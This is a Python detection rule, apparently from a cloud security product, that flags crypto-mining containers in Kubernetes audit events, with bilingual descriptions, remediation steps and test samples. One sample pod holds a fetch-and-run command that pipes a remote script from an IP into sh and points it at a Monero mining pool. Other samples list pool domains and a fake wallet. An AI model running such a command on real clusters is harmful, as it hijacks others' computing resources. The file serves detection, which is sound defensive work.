"""K8S_MaliciousContainerImage: a crypto-miner container, by image or by what it is told to run."""

from __future__ import annotations

from typing import Any

from cloudward.alerts import Finding
from cloudward.detections.base import Card, Sample
from cloudward.detections.common.miners import MinerIndicators
from cloudward.detections.kubernetes._samples import audit, container, pod, workload
from cloudward.detections.kubernetes._workloads import Container, PodSpecCard, PodSpecView, workload_entities
from cloudward.events import K8sAudit
from cloudward.parsers._k8s import ContentNeedles

_WALLET = "4" + "8" * 10 + "AbCdEfGhJkLmNpQrStUvWxYz" * 3 + "23456789ABCDEFGHJKLMNPQ"[:12]

CARD = Card(
    id="K8S_MaliciousContainerImage",
    title="Digital currency mining container detected",
    title_ko="암호화폐 채굴 컨테이너 탐지",
    severity="high",
    tactics=("Execution", "Impact"),
    techniques=("T1496", "T1610"),
    data_source="AUDIT",
    looks_at="pod specs of created or changed workloads: images in the miner_images list, and command, args and "
             "env values carrying mining indicators (stratum URLs, pool domains, --donate-level, wallet arguments)",
    description="{user} started a crypto-mining container in {namespace}/{workload}: {indicators}.",
    description_ko="{user}이(가) {namespace}/{workload}에서 암호화폐 채굴 컨테이너를 시작했습니다: {indicators}.",
    remediation=(
        "Delete the workload (kubectl -n <ns> delete <kind> <name>) and check for others from the same user.",
        "Find how the attacker got in: review the creator's credentials, tokens and recent audit events.",
        "Rotate the credentials of the identity that created it; restrict image sources with an admission policy.",
    ),
    remediation_ko=(
        "워크로드를 삭제하고(kubectl -n <네임스페이스> delete <종류> <이름>) 같은 사용자가 만든 다른 워크로드가 있는지 확인하십시오.",
        "공격자의 침투 경로를 찾으십시오: 생성자의 자격 증명, 토큰, 최근 감사 이벤트를 검토하십시오.",
        "생성한 ID의 자격 증명을 교체하고, 승인 정책으로 허용되는 이미지 출처를 제한하십시오.",
    ),
    false_positives=("Clusters that mine on purpose; disable the card or allow their namespace.",),
    samples=(
        Sample("xmrig image in a Deployment", "k8s-audit", audit("create", "deployments", workload(
            "Deployment", "metrics-collector", [container("worker", "docker.io/metal3d/xmrig:latest")])), expect=1,
            entities={"images": ["docker.io/metal3d/xmrig:latest"], "workload": "Deployment/metrics-collector"}),
        Sample("innocent image told to mine via stratum", "k8s-audit", audit("create", "pods", pod(
            "cache-warmer", [container("w", "ubuntu:22.04", command=["/bin/sh", "-c"],
                                       args=["curl -s http://198.51.100.7/x | sh -s -- -o "
                                             "stratum+tcp://pool.supportxmr.com:3333 --donate-level 1"])])),
            expect=1),
        Sample("pool domain and wallet in env", "k8s-audit", audit("create", "pods", pod(
            "job-runner", [container("r", "ghcr.io/acme/runner:1.4",
                                     env={"POOL": "gulf.moneroocean.stream:10128", "WALLET": _WALLET})])), expect=1),
        Sample("ordinary nginx", "k8s-audit", audit("create", "pods", pod(
            "web", [container("web", "nginx:1.25", args=["-g", "daemon off;"])])), expect=0),
        Sample("a monitoring image whose name merely contains 'mine'", "k8s-audit", audit("create", "pods", pod(
            "exporter", [container("e", "quay.io/prometheus/node-exporter:v1.7.0",
                                   args=["--collector.textfile.directory=/var/lib/determine"])])), expect=0),
    ),
)


#: text image normalization may put in front of what the image reference says (`parse_image`)
_INJECTED_IMAGE_TEXT = ("docker.io", "library")
#: `MinerIndicators.text`'s Monero wallet: 95 base58 characters
_MONERO_LENGTH = 95


def _image_piece(pattern: str) -> str | None:
    """A text the image reference itself must hold (lowercased) for `pattern` to match its normalized name:
    the longest piece of the pattern's literal text, cut at wildcards and at '/', that normalization cannot
    have added (a name is `docker.io/library/` or `docker.io/`, or nothing, in front of text of the reference).
    Only the part before a character class ('[') counts; None when no piece qualifies."""
    head = pattern.split("[", 1)[0]
    pieces = [p for chunk in head.replace("?", "*").split("*") for p in chunk.split("/")]
    pieces = [p for p in pieces if len(p) >= 2 and not any(p in text for text in _INJECTED_IMAGE_TEXT)]
    return max(pieces, key=len) if pieces else None


def miner_needles(miners: MinerIndicators) -> ContentNeedles | None:
    """What a container must hold on the raw line for `MinerIndicators` to find anything in its image,
    arguments or environment: a piece of each image pattern, each miner option (the longest of its
    space-separated words: a short flag and its value are joined with a space before matching), each pool
    domain, "bc1" or "0x" (a wallet argument) or a run of base58 characters as long as a Monero wallet."""
    folded = {"bc1", "0x"}
    for pattern in miners.images.patterns:
        piece = _image_piece(pattern)
        if piece is None:
            return None
        folded.add(piece)
    for flag in miners.flags:
        words = flag.split()
        if not words:
            return None
        folded.add(max(words, key=len))
    folded |= miners.pools
    if any(len(n) < 2 for n in folded):
        return None
    return ContentNeedles(folded=frozenset(n.lower() for n in folded), base58_run=_MONERO_LENGTH)


class MaliciousContainerImage(PodSpecCard):
    card = CARD

    def setup(self) -> None:
        super().setup()
        self.miners = MinerIndicators(self.data)

    def content_needles(self) -> ContentNeedles | None:
        return miner_needles(self.miners)

    def _indicators(self, c: Container) -> list[str]:
        found = []
        if c.image and (pattern := self.miners.image(c.image)):
            found.append(f"container {c.name}: image {c.image} matches {pattern}")
        # command and args are one argv; each env value stands alone (see MinerIndicators.values)
        argv: list[str] = []
        for key in ("command", "args"):
            value = c.spec.get(key)
            if isinstance(value, list):
                argv.extend(v for v in value if isinstance(v, str))
        hits = self.miners.values(argv)
        env = c.spec.get("env")
        if isinstance(env, list):
            for e in env:
                if isinstance(e, dict) and isinstance(e.get("value"), str):
                    hits.extend(h for h in self.miners.text(e["value"]) if h not in hits)
        for hit in hits:
            note = f"container {c.name}: {hit}"
            if note not in found:
                found.append(note)
        return found

    def judge(self, event: K8sAudit, view: PodSpecView) -> list[Finding] | None:
        flagged: list[Container] = []
        indicators: list[str] = []
        for c in view.containers:
            hits = self._indicators(c)
            if hits:
                flagged.append(c)
                indicators.extend(hits)
        if not flagged:
            return None
        entities: dict[str, Any] = workload_entities(event, view, flagged)
        entities["indicators"] = indicators
        return [Finding(key=view.key, entities=entities, event=event)]
